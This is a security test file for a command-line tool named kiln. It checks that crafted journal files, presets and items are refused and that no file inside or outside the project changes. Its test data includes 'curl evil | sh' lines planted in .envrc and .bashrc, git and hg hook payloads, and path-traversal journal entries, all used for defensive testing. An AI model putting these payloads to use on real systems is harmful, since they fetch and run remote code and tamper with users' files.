// kiln's own files are strangers' input too: a `.kiln-journal.json` committed to a repository
// or written by a stranger's preset must not make kiln write, chmod or delete anything, and no
// item, preset or `--into` may write kiln.toml, kiln.lock or a journal at any depth. The real
// binary in temporary folders; every refusal is checked for its message, exit status 1, no
// stack trace, and an untouched tree inside the project and outside it (a canary).
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  closeSync,
  ftruncateSync,
  lstatSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join, relative } from "node:path";
import { after, before, describe, it } from "node:test";
import {
  BIN,
  cleanEnv,
  cleanUp,
  ensureBuilt,
  itemFile,
  kiln,
  presetOf,
  project,
  type Run,
  tempDir,
  tree,
  write,
  writeJson,
} from "./helpers.ts";

before(() => ensureBuilt());
after(cleanUp);

const JOURNAL = ".kiln-journal.json";
const MAX_JOURNAL_BYTES = 256 * 1024 * 1024;

const sha256 = (text: string | Buffer) => createHash("sha256").update(text).digest("hex");

/**
 * Every entry below `dir` without opening anything but small regular files: a FIFO or a
 * device is recorded by kind (reading it would hang), a large file by size and hash.
 */
function snapshot(dir: string): Record<string, string> {
  const result: Record<string, string> = {};
  const walk = (folder: string) => {
    for (const name of readdirSync(folder).sort()) {
      const path = join(folder, name);
      const key = relative(dir, path);
      const stats = lstatSync(path);
      if (stats.isSymbolicLink()) result[key] = `-> ${readlinkSync(path)}`;
      else if (stats.isDirectory()) {
        result[`${key}/`] = `mode ${(stats.mode & 0o7777).toString(8)}`;
        walk(path);
      } else if (!stats.isFile()) result[key] = stats.isFIFO() ? "fifo" : "special";
      else if (stats.size > 1024 * 1024) result[key] = `size ${stats.size}`;
      else {
        result[key] = `${sha256(readFileSync(path))} mode ${(stats.mode & 0o7777).toString(8)}`;
      }
    }
  };
  walk(dir);
  return result;
}

/** A journal entry as kiln 2 writes it: `before`/`after` are the file's bytes or absent. */
function entry(path: string, before?: string, after?: string, mode = 0o644) {
  return {
    path,
    before:
      before === undefined
        ? null
        : { sha256: sha256(before), mode, bytes: Buffer.from(before).toString("base64") },
    after: after === undefined ? null : { sha256: sha256(after), size: Buffer.byteLength(after) },
  };
}

function journalOf(entries: unknown[], folders: string[] = []) {
  return { version: 2, pid: 4242, entries, folders };
}

/** A project with a vendored file and a file of the user's, and a canary folder outside it. */
function scene(): { dir: string; outside: string; outsideName: string } {
  const dir = project();
  write(dir, "k8s/app.yaml", "kind: Deployment\n");
  write(dir, "notes.txt", "the user's notes\n");
  const outside = tempDir();
  write(outside, "canary.txt", "canary\n");
  mkdirSync(join(outside, "empty"));
  return { dir, outside, outsideName: relative(dir, outside) };
}

function plant(dir: string, journal: unknown): void {
  writeFileSync(
    join(dir, JOURNAL),
    typeof journal === "string" ? journal : JSON.stringify(journal),
  );
}

/** The writing commands, each with arguments that would write in a project. */
function writingCommands(dir: string): string[][] {
  itemFile(dir, "items/note.json", [{ path: "note.md", template: "note\n" }]);
  writeJson(dir, "run.preset.json", {
    name: "run",
    components: [{ reference: "items/note.json", name: "n" }],
  });
  return [
    ["add", "items/note.json", "--name", "n"],
    ["apply", "run.preset.json", "--into", "deploy"],
    ["setup", "run.preset.json", "--force"],
    ["init", "--force"],
    ["update"],
    ["remove", "n"],
  ];
}

function run(args: string[], cwd: string): Run {
  // a timeout, so a hang (a FIFO opened for reading) is an answer too: a failure, not a stall
  const result = spawnSync(process.execPath, [BIN, ...args], {
    cwd,
    env: cleanEnv(),
    encoding: "utf8",
    timeout: 60_000,
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

/**
 * Runs a writing command over a planted journal and expects the refusal: exit 1, the one-line
 * message with `reason`, no stack trace, nothing changed in the project or outside it.
 */
function refusedJournal(
  dir: string,
  outside: string,
  reason: string | RegExp,
  args: string[] = ["add", "k8s/deployment", "--name", "web", "--image", "nginx:1.27"],
): Run {
  const inside = snapshot(dir);
  const canary = snapshot(outside);
  const result = run(args, dir);
  assert.equal(result.status, 1, `${args.join(" ")}: ${result.stdout}${result.stderr}`);
  assert.equal(result.stdout, "");
  const first = result.stderr.split("\n")[0] as string;
  const prefix = `error: ${JOURNAL} is not a journal this kiln wrote for this folder (`;
  const suffix = `) - nothing was restored; inspect it and delete it (rm ${JOURNAL}) to go on`;
  assert.ok(first.startsWith(prefix), first);
  assert.ok(first.endsWith(suffix), first);
  const shown = first.slice(prefix.length, -suffix.length);
  if (typeof reason === "string") assert.equal(shown, reason);
  else assert.match(shown, reason);
  assert.doesNotMatch(result.stderr, /\n\s+at /, "no stack trace");
  assert.deepEqual(snapshot(dir), inside, "nothing changed in the project");
  assert.deepEqual(snapshot(outside), canary, "nothing changed outside");
  return result;
}

describe("a planted journal is refused whole, and nothing is written or deleted", () => {
  it("an absolute path (the old replay wrote any file it named)", () => {
    const { dir, outside } = scene();
    const target = join(outside, "canary.txt");
    plant(dir, journalOf([entry(target, "pwned\n", "canary\n", 0o755)]));
    refusedJournal(dir, outside, `entries[0].path ${JSON.stringify(target)} is absolute`);
  });

  it("a `../` path, and one that deletes (no bytes before)", () => {
    const { dir, outside, outsideName } = scene();
    plant(dir, journalOf([entry(`${outsideName}/canary.txt`, "pwned\n", "canary\n")]));
    refusedJournal(
      dir,
      outside,
      `entries[0].path ${JSON.stringify(`${outsideName}/canary.txt`)} leads out of the folder (\`..\`)`,
    );
    plant(dir, journalOf([entry(`${outsideName}/canary.txt`, undefined, "canary\n")]));
    refusedJournal(dir, outside, /leads out of the folder/);
  });

  it("a path through a symbolic link that leaves the folder", () => {
    const { dir, outside } = scene();
    symlinkSync(outside, join(dir, "out"));
    plant(dir, journalOf([entry("out/canary.txt", "pwned\n", "canary\n")]));
    refusedJournal(
      dir,
      outside,
      'entries[0].path "out/canary.txt" goes through the symbolic link "out"',
    );
    // a link at the file itself
    symlinkSync(join(outside, "canary.txt"), join(dir, "k8s", "link.yaml"));
    plant(dir, journalOf([entry("k8s/link.yaml", "pwned\n", "canary\n")]));
    refusedJournal(dir, outside, 'entries[0].path "k8s/link.yaml" is a symbolic link');
  });

  it("emptied folders that lead out, through a link or into .git are refused, and a removed file's folder must be there or listed", () => {
    const { dir, outside, outsideName } = scene();
    symlinkSync(outside, join(dir, "out"));
    const removed = entry("k8s/gone/app.yaml", "kind: Deployment\n");
    const withEmptied = (emptied: string[]) => ({ ...journalOf([removed]), emptied });
    plant(dir, withEmptied([`${outsideName}/made`]));
    refusedJournal(dir, outside, /^emptied\[0\] ".*made" leads out of the folder \(`\.\.`\)$/);
    plant(dir, withEmptied(["out/made"]));
    refusedJournal(dir, outside, 'emptied[0] "out/made" goes through the symbolic link "out"');
    plant(dir, withEmptied([".git/hooks"]));
    refusedJournal(dir, outside, 'emptied[0] ".git/hooks" is in .git');
    plant(dir, withEmptied(["notes.txt"]));
    refusedJournal(dir, outside, 'emptied[0] "notes.txt" is not a folder');
    // a removed file whose folder is gone and not listed as emptied is no state a run leaves
    plant(dir, journalOf([removed]));
    refusedJournal(
      dir,
      outside,
      'entries[0].path "k8s/gone/app.yaml" was removed and its folder is gone',
    );
  });

  it("a path into .git/hooks (in any spelling) and into .hg", () => {
    const { dir, outside } = scene();
    write(dir, ".git/config", "[core]\n");
    mkdirSync(join(dir, ".git", "hooks"));
    const hook = "#!/bin/sh\ntouch /tmp/kiln-pwned\n";
    plant(dir, journalOf([entry(".git/hooks/post-checkout", hook, undefined, 0o755)]));
    refusedJournal(dir, outside, 'entries[0].path ".git/hooks/post-checkout" is in .git');
    plant(dir, journalOf([entry(".GIT./hooks/post-checkout", hook)]));
    refusedJournal(dir, outside, /is in \.git$/);
    plant(dir, journalOf([entry(".hg/hgrc", "[hooks]\nupdate = touch pwned\n")]));
    refusedJournal(dir, outside, 'entries[0].path ".hg/hgrc" is in .hg');
  });

  it("a place other tools run as code", () => {
    const { dir, outside } = scene();
    plant(dir, journalOf([entry(".envrc", "curl evil | sh\n")]));
    refusedJournal(
      dir,
      outside,
      'entries[0].path ".envrc" is a place other tools run as code (.envrc)',
    );
    plant(dir, journalOf([entry("k8s/.bashrc", "curl evil | sh\n")]));
    refusedJournal(dir, outside, /"k8s\/\.bashrc" is a place other tools run as code/);
    plant(dir, journalOf([entry(".github/workflows/ci.yml", "on: push\n")]));
    refusedJournal(dir, outside, /run as code \(\.github\/workflows\/, \.github\/actions\/\)$/);
  });

  it("kiln's own journal or a lock below the top", () => {
    const { dir, outside } = scene();
    plant(dir, journalOf([entry("sub/kiln.lock", "{}\n")]));
    refusedJournal(dir, outside, `entries[0].path "sub/kiln.lock" names kiln's own kiln.lock`);
    plant(dir, journalOf([entry(JOURNAL, "{}\n")]));
    refusedJournal(dir, outside, /names kiln's own \.kiln-journal\.json$/);
  });

  it("a folder outside (the old replay removed it)", () => {
    const { dir, outside, outsideName } = scene();
    plant(dir, journalOf([entry("k8s/new.yaml", undefined, "x\n")], [`${outsideName}/empty`]));
    refusedJournal(
      dir,
      outside,
      `folders[0] ${JSON.stringify(`${outsideName}/empty`)} leads out of the folder (\`..\`)`,
    );
    plant(dir, journalOf([entry("k8s/new.yaml", undefined, "x\n")], [outside]));
    refusedJournal(dir, outside, /^folders\[0\] .* is absolute$/);
  });

  it("a prior hash that is not its bytes' hash", () => {
    const { dir, outside } = scene();
    const wrong = entry("k8s/app.yaml", "pwned\n", "kind: Deployment\n");
    plant(dir, journalOf([{ ...wrong, before: { ...wrong.before, sha256: sha256("other") } }]));
    refusedJournal(dir, outside, "entries[0].before.sha256 is not the sha256 of its bytes");
  });

  it("a file in neither state the run could have left it in: not overwritten, not deleted", () => {
    const { dir, outside } = scene();
    // claims the run wrote something else to the user's notes: they are not touched
    plant(dir, journalOf([entry("notes.txt", "pwned\n", "what the run wrote\n")]));
    refusedJournal(
      dir,
      outside,
      'entries[0].path "notes.txt" holds neither its bytes from before the run nor those the run wrote',
    );
    // claims the run created the notes: they are not deleted
    plant(dir, journalOf([entry("notes.txt", undefined, "what the run wrote\n")]));
    refusedJournal(dir, outside, /"notes\.txt" holds neither/);
    // claims the run overwrote a file that is not there
    plant(dir, journalOf([entry("gone.txt", "pwned\n", "x\n")]));
    refusedJournal(dir, outside, 'entries[0].path "gone.txt" is gone: the run never removes it');
    // one bad entry refuses the whole journal: the good one is not replayed either
    plant(
      dir,
      journalOf([
        entry("k8s/app.yaml", "restored\n", "kind: Deployment\n"),
        entry("notes.txt", undefined, "x\n"),
      ]),
    );
    refusedJournal(dir, outside, /"notes\.txt" holds neither/);
  });

  it("malformed journals: each named, none crashes", () => {
    const { dir, outside } = scene();
    const cases: [unknown, string | RegExp][] = [
      ['{"version":1,"entries":[]}', "it has format version 1; this kiln writes version 2"],
      [{ ...journalOf([entry("a.txt", "x")]), version: 3 }, /format version 3/],
      ['{"version":2,"entries":[]}', "missing field `pid`"],
      [journalOf([]), "it lists no file"],
      [
        { version: "2", pid: 1, entries: [], folders: [] },
        "version: invalid type: string, expected u32",
      ],
      [
        journalOf([{ path: 5, before: null, after: null }]),
        "entries[0].path: invalid type: integer `5`, expected a string",
      ],
      [journalOf([{ path: "a.txt", after: null }]), "entries[0]: missing field `before`"],
      [journalOf([{ ...entry("a.txt", "x"), extra: 1 }]), "entries[0]: unknown field `extra`"],
      [
        journalOf([entry("a.txt", "x", undefined, 0o4755)]),
        /^entries\[0\]\.before\.mode: invalid value: integer `2541`/,
      ],
      [journalOf([entry("a.txt")]), "entries[0] neither had a file before the run nor writes one"],
      [
        journalOf([entry("a.txt", "x"), entry("a.txt", "y")]),
        'entries[1].path "a.txt" is listed twice',
      ],
      [
        { ...journalOf([entry("a.txt", "x")]), pid: -1 },
        "pid: invalid value: integer `-1`, expected u32",
      ],
      [
        { ...journalOf([entry("a.txt", "x")]), folders: "k8s" },
        "folders: invalid type: string, expected a sequence",
      ],
      ["[]", "invalid type: sequence, expected struct Journal"],
      ["{", /^not JSON: line 1, column 2: /],
      ["", /^not JSON: /],
      [
        journalOf([{ ...entry("a.txt", "x"), before: { sha256: "x", mode: 420, bytes: "eA==" } }]),
        /before\.sha256: not a sha256/,
      ],
      [
        journalOf([
          { ...entry("a.txt", "x"), before: { sha256: sha256("x"), mode: 420, bytes: "e=A=" } },
        ]),
        "entries[0].before.bytes: not base64",
      ],
      [journalOf([entry("", "x")]), 'entries[0].path "" is empty'],
      [journalOf([entry("k8s//a.txt", "x")]), /has an empty or `\.` segment$/],
      [journalOf([entry("k8s\\a.txt", "x")]), /holds a backslash$/],
    ];
    for (const [journal, reason] of cases) {
      plant(dir, journal);
      refusedJournal(dir, outside, reason);
    }
  });

  it("a link to /dev/zero, a FIFO, a folder and a file over the cap: refused without reading", () => {
    const { dir, outside } = scene();
    symlinkSync("/dev/zero", join(dir, JOURNAL));
    refusedJournal(dir, outside, "it is a symbolic link");
    // a link to a well-formed journal is refused too: kiln writes a regular file
    writeFileSync(join(outside, "j.json"), JSON.stringify(journalOf([entry("notes.txt", "x")])));
    execFileSync("ln", ["-sfn", join(outside, "j.json"), join(dir, JOURNAL)]);
    refusedJournal(dir, outside, "it is a symbolic link");
    execFileSync("rm", [join(dir, JOURNAL)]);
    execFileSync("mkfifo", [join(dir, JOURNAL)]);
    refusedJournal(dir, outside, "it is not a regular file");
    execFileSync("rm", [join(dir, JOURNAL)]);
    mkdirSync(join(dir, JOURNAL));
    refusedJournal(dir, outside, "it is not a regular file");
    execFileSync("rmdir", [join(dir, JOURNAL)]);
    // sparse: no disk used, and never read (its size alone refuses it)
    const fd = openSync(join(dir, JOURNAL), "w");
    ftruncateSync(fd, MAX_JOURNAL_BYTES + 1);
    closeSync(fd);
    refusedJournal(
      dir,
      outside,
      `it is larger than ${MAX_JOURNAL_BYTES} bytes, the most kiln writes`,
    );
  });

  it("apply --into a folder holding a planted journal names it there", () => {
    const { dir } = scene();
    writingCommands(dir);
    mkdirSync(join(dir, "deploy"));
    writeFileSync(
      join(dir, "deploy", JOURNAL),
      JSON.stringify(journalOf([entry("../notes.txt", "pwned\n", "the user's notes\n")])),
    );
    const inside = snapshot(dir);
    const result = run(["apply", "run.preset.json", "--into", "deploy"], dir);
    assert.equal(result.status, 1);
    assert.equal(
      result.stderr.split("\n")[0],
      `error: deploy/${JOURNAL} is not a journal this kiln wrote for \`deploy\` (entries[0].path "../notes.txt" leads out of the folder (\`..\`)) - nothing was restored; inspect it and delete it (rm deploy/${JOURNAL}) to go on`,
    );
    assert.deepEqual(snapshot(dir), inside);
    assert.equal(readFileSync(join(dir, "notes.txt"), "utf8"), "the user's notes\n");
  });

  it("every writing command refuses it", () => {
    const { dir, outside } = scene();
    const commands = writingCommands(dir);
    assert.equal(kiln(["add", "items/note.json", "--name", "n"], dir).status, 0);
    plant(dir, journalOf([entry(join(outside, "canary.txt"), "pwned\n", "canary\n")]));
    for (const args of commands) refusedJournal(dir, outside, /is absolute$/, args);
    refusedJournal(dir, outside, /is absolute$/, ["preset", "export", "--output", "p.json"]);
  });
});

describe("commands that do not write leave a journal alone", () => {
  it("--version, --help, help, completion, list, presets, render, check, status, diff, preset export", () => {
    const { dir, outside } = scene();
    itemFile(dir, "items/note.json", [{ path: "note.md", template: "note\n" }]);
    assert.equal(kiln(["add", "items/note.json", "--name", "n"], dir).status, 0);
    const target = join(outside, "canary.txt");
    plant(dir, journalOf([entry(target, "pwned\n", "canary\n")]));
    const inside = snapshot(dir);
    const canary = snapshot(outside);
    const note = `note: a kiln run in this folder was interrupted part-way (${JOURNAL} is here) - its files may be half-written until a command that writes (kiln add, apply, init, remove, setup or update) rolls it back\n`;
    const silent: string[][] = [
      ["--version"],
      ["--help"],
      ["help", "add"],
      ["add", "--help"],
      ["completion", "bash"],
    ];
    for (const args of silent) {
      const result = run(args, dir);
      assert.equal(result.status, 0, `${args.join(" ")}: ${result.stderr}`);
      assert.equal(result.stderr, "", args.join(" "));
    }
    const noting: string[][] = [
      ["list"],
      ["presets"],
      ["render", "k8s/service", "--name", "web"],
      ["check", "k8s-web-app"],
      ["status"],
      ["diff"],
      ["preset", "export"],
    ];
    for (const args of noting) {
      const result = run(args, dir);
      assert.equal(result.status, 0, `${args.join(" ")}: ${result.stderr}`);
      assert.ok(result.stderr.startsWith(note), `${args.join(" ")}: ${result.stderr}`);
      assert.doesNotMatch(result.stderr, /\n\s+at /);
    }
    assert.deepEqual(snapshot(dir), inside, "the journal stays, nothing is replayed");
    assert.deepEqual(snapshot(outside), canary);
  });
});

describe("a genuine interrupted run still rolls back", () => {
  it("the journal holds relative paths and hashes; the next writing command rolls back", () => {
    const dir = project();
    itemFile(dir, "items/two.json", [
      { path: "a.md", template: "a {{ name }}\n" },
      { path: "sub/b.md", template: "b {{ name }}\n" },
    ]);
    write(dir, "k8s/a.md", "mine\n");
    const before = tree(dir);
    const killed = kiln(["add", "items/two.json", "--name", "x", "--force"], dir, {
      KILN_TEST_CRASH_AFTER_WRITES: "2",
    });
    assert.equal(killed.status, null);
    const journal = JSON.parse(readFileSync(join(dir, JOURNAL), "utf8")) as {
      version: number;
      entries: { path: string; before: { sha256: string } | null }[];
      folders: string[];
    };
    assert.equal(journal.version, 2);
    assert.deepEqual(
      journal.entries.map((e) => e.path),
      ["k8s/a.md", "k8s/sub/b.md", "kiln.lock"],
    );
    assert.equal(journal.entries[0]?.before?.sha256, sha256("mine\n"));
    assert.equal(journal.entries[1]?.before, null);
    assert.deepEqual(journal.folders, ["k8s/sub"]);
    assert.equal(tree(dir)["k8s/a.md"], "a x\n", "the run got this far");
    const next = kiln(["add", "items/two.json", "--name", "x", "--force", "--dry-run"], dir);
    assert.match(
      next.stderr,
      /^note: a kiln run in this folder was interrupted part-way - rolled back the 3 files it was changing \(\.kiln-journal\.json removed\)\n/,
    );
    assert.deepEqual(tree(dir), before);
  });

  it("a journal within the rules is replayed, and a link planted at its temporary name is not followed", () => {
    const { dir, outside } = scene();
    // whoever can put files in the folder can do this much without kiln: it is replayed
    plant(dir, journalOf([entry("k8s/app.yaml", "restored\n", "kind: Deployment\n", 0o600)]));
    symlinkSync(join(outside, "canary.txt"), join(dir, "k8s", ".app.yaml.kiln-4242-restore.tmp"));
    symlinkSync(join(outside, "canary.txt"), join(dir, "k8s", ".app.yaml.kiln-4242-7.tmp"));
    symlinkSync(
      join(outside, "canary.txt"),
      join(dir, "k8s", ".app.yaml.kiln-4242-8-0123456789ab.tmp"),
    );
    const canary = snapshot(outside);
    const result = kiln(["init", "--force"], dir);
    assert.equal(result.status, 0, result.stderr);
    assert.match(
      result.stderr,
      /^note: a kiln run in this folder was interrupted part-way - rolled back the file it was changing/,
    );
    assert.equal(readFileSync(join(dir, "k8s/app.yaml"), "utf8"), "restored\n");
    assert.equal(lstatSync(join(dir, "k8s/app.yaml")).mode & 0o777, 0o600);
    assert.deepEqual(
      readdirSync(join(dir, "k8s")),
      ["app.yaml"],
      "the temporaries (links) are gone, not written through",
    );
    assert.deepEqual(snapshot(outside), canary);
  });

  it("a large prior file (24 MiB, 32 MiB as base64) is checked and restored", () => {
    const { dir } = scene();
    const large = "0123456789abcdef".repeat(24 * 65536);
    plant(dir, journalOf([entry("k8s/app.yaml", large, "kind: Deployment\n")]));
    const result = kiln(["init", "--force"], dir);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(readFileSync(join(dir, "k8s/app.yaml"), "utf8") === large, true);
  });

  it("a run with --allow-exec-paths: exec files stay out of the journal, the rest rolls back", () => {
    const dir = tempDir();
    itemFile(dir, "items/two.json", [
      { path: ".envrc", template: "export A=1\n" },
      { path: "a.md", template: "a\n" },
    ]);
    writeJson(dir, "run.preset.json", {
      name: "run",
      components: [{ reference: "items/two.json", name: "n" }],
    });
    write(dir, "a.md", "mine\n");
    const killed = kiln(["apply", "run.preset.json", "--allow-exec-paths", "--force"], dir, {
      KILN_TEST_CRASH_AFTER_WRITES: "2",
    });
    assert.equal(killed.status, null);
    const journal = JSON.parse(readFileSync(join(dir, JOURNAL), "utf8")) as {
      entries: { path: string }[];
    };
    assert.deepEqual(
      journal.entries.map((e) => e.path),
      ["a.md"],
    );
    const next = kiln(["apply", "run.preset.json", "--dry-run", "--allow-exec-paths"], dir);
    assert.match(
      next.stderr,
      /^note: a kiln run in this folder was interrupted part-way - rolled back the file it was changing/,
    );
    assert.equal(tree(dir)["a.md"], "mine\n");
    assert.equal(tree(dir)[".envrc"], "export A=1\n", "left as the run wrote it (documented)");
  });

  it("an interrupted run whose file was edited since is refused, not overwritten", () => {
    const dir = project();
    itemFile(dir, "items/one.json", [{ path: "a.md", template: "a\n" }]);
    write(dir, "k8s/a.md", "mine\n");
    kiln(["add", "items/one.json", "--name", "x", "--force"], dir, {
      KILN_TEST_CRASH_AFTER_WRITES: "1",
    });
    write(dir, "k8s/a.md", "edited after the crash\n");
    const outside = tempDir();
    refusedJournal(dir, outside, /"k8s\/a\.md" holds neither/, ["init", "--force"]);
  });

  it("apply --into a folder outside keeps its journal there, and apply --into it rolls back", () => {
    const dir = tempDir();
    itemFile(dir, "items/two.json", [
      { path: "a.md", template: "a\n" },
      { path: "b.md", template: "b\n" },
    ]);
    writeJson(dir, "run.preset.json", {
      name: "run",
      components: [{ reference: "items/two.json", name: "n" }],
    });
    const target = tempDir();
    write(target, "keep.txt", "keep\n");
    const before = tree(target);
    const into = relative(dir, target);
    const killed = kiln(["apply", "run.preset.json", "--into", into], dir, {
      KILN_TEST_CRASH_AFTER_WRITES: "1",
    });
    assert.equal(killed.status, null);
    assert.ok(tree(target)[JOURNAL], "the journal is in the --into folder");
    assert.equal(tree(dir)[JOURNAL], undefined);
    const next = kiln(["apply", "run.preset.json", "--into", into, "--dry-run"], dir);
    assert.equal(next.status, 0, next.stderr);
    assert.ok(
      next.stderr.startsWith(
        `note: a kiln run in \`${into}\` was interrupted part-way - rolled back the 2 files it was changing (${into}/${JOURNAL} removed)\n`,
      ),
      next.stderr,
    );
    assert.deepEqual(tree(target), before);
  });
});

describe("kiln's own files: no item, preset or --into writes them", () => {
  const own = (path: string, segment: string, file: string) =>
    `refusing to write \`${path}\` - \`${segment}\` is a file kiln keeps for itself (${file}); an item or preset cannot write it`;

  function refused(dir: string, args: string[], message: string): void {
    const before = snapshot(dir);
    const result = run(args, dir);
    assert.equal(result.status, 1, `${args.join(" ")}: ${result.stdout}${result.stderr}`);
    assert.equal(result.stderr.split("\n")[0], `error: ${message}`);
    assert.doesNotMatch(result.stderr, /\n\s+at /);
    assert.deepEqual(snapshot(dir), before, "nothing was written");
  }

  it("apply --into deploy of a preset with a journal (the old way to plant one)", () => {
    const dir = tempDir();
    const preset = presetOf(dir, ["ok.yaml", JOURNAL], undefined, "evil.preset.json");
    refused(dir, ["apply", preset, "--into", "deploy"], own(JOURNAL, JOURNAL, JOURNAL));
    refused(dir, ["apply", preset, "--into", "deploy", "--force"], own(JOURNAL, JOURNAL, JOURNAL));
  });

  it("at any depth and in the spellings the .git rule knows", () => {
    const dir = project();
    for (const [path, segment, file] of [
      ["sub/KILN.LOCK", "KILN.LOCK", "kiln.lock"],
      ["sub/kiln.toml.", "kiln.toml.", "kiln.toml"],
      ["a/b/.Kiln-Journal.json", ".Kiln-Journal.json", JOURNAL],
      ["kiln.lock/x.yaml", "kiln.lock", "kiln.lock"],
      ["KILN~1.TOM", "KILN~1.TOM", "kiln.toml"],
    ] as const) {
      itemFile(dir, "items/evil.json", [{ path, template: "x\n" }]);
      refused(dir, ["add", "items/evil.json", "--name", "e"], own(path, segment, file));
      refused(dir, ["add", "items/evil.json", "--name", "e", "--force"], own(path, segment, file));
    }
  });

  it("setup of a preset writing kiln.lock next to its kiln.toml, or into a folder named so", () => {
    const dir = tempDir();
    refused(
      dir,
      ["setup", presetOf(dir, ["kiln.lock"], { outputDir: "." }, "evil.preset.json"), "--force"],
      own("kiln.lock", "kiln.lock", "kiln.lock"),
    );
    refused(
      dir,
      ["setup", presetOf(dir, ["a.yaml"], { outputDir: "deploy/kiln.toml" }, "evil.preset.json")],
      `refusing to write into \`deploy/kiln.toml\` - \`kiln.toml\` is a file kiln keeps for itself (kiln.toml); an item or preset cannot write it`,
    );
    refused(
      dir,
      ["apply", presetOf(dir, ["a.yaml"], undefined, "evil.preset.json"), "--into", "kiln.lock"],
      "refusing to write into `kiln.lock` - `kiln.lock` is a file kiln keeps for itself (kiln.lock); an item or preset cannot write it",
    );
  });

  it("add --force with an output folder `.` and update --force: kiln.toml is not replaced", () => {
    const dir = project({ outputDir: "." });
    itemFile(dir, "items/evil.json", [{ path: "kiln.toml", template: "x\n" }]);
    refused(
      dir,
      ["add", "items/evil.json", "--name", "e", "--force"],
      own("kiln.toml", "kiln.toml", "kiln.toml"),
    );
    // an item that rendered a harmless path, then renders kiln.toml
    itemFile(dir, "items/moving.json", [{ path: "app.yaml", template: "x\n" }]);
    const added = kiln(["add", "items/moving.json", "--name", "m"], dir);
    assert.equal(added.status, 0, added.stderr);
    itemFile(dir, "items/moving.json", [{ path: "kiln.toml", template: "x\n" }]);
    refused(dir, ["update", "--force"], own("kiln.toml", "kiln.toml", "kiln.toml"));
    refused(dir, ["update", "--force", "--theirs"], own("kiln.toml", "kiln.toml", "kiln.toml"));
  });

  it("a link inside the target that leads to kiln.toml is not written through", () => {
    const dir = project({ outputDir: "." });
    symlinkSync("kiln.toml", join(dir, "app.yaml"));
    itemFile(dir, "items/app.json", [{ path: "app.yaml", template: "x\n" }]);
    refused(
      dir,
      ["add", "items/app.json", "--name", "a", "--force"],
      own("app.yaml", "kiln.toml", "kiln.toml"),
    );
  });

  it("kiln's own writes still work: init, setup, add, update, remove", () => {
    const dir = tempDir();
    assert.equal(kiln(["init"], dir).status, 0);
    assert.equal(kiln(["init", "--force", "--name", "other"], dir).status, 0);
    itemFile(dir, "items/note.json", [{ path: "note.md", template: "{{ name }}\n" }]);
    const added = kiln(["add", "items/note.json", "--name", "n"], dir);
    assert.equal(added.status, 0, added.stderr);
    assert.ok(tree(dir)["kiln.lock"]);
    assert.equal(kiln(["update"], dir).status, 0);
    assert.equal(kiln(["remove", "n"], dir).status, 0);
    const other = tempDir();
    const set = kiln(["setup", "k8s-web-app"], other);
    assert.equal(set.status, 0, set.stderr);
    assert.ok(tree(other)["kiln.toml"] && tree(other)["kiln.lock"]);
  });
});
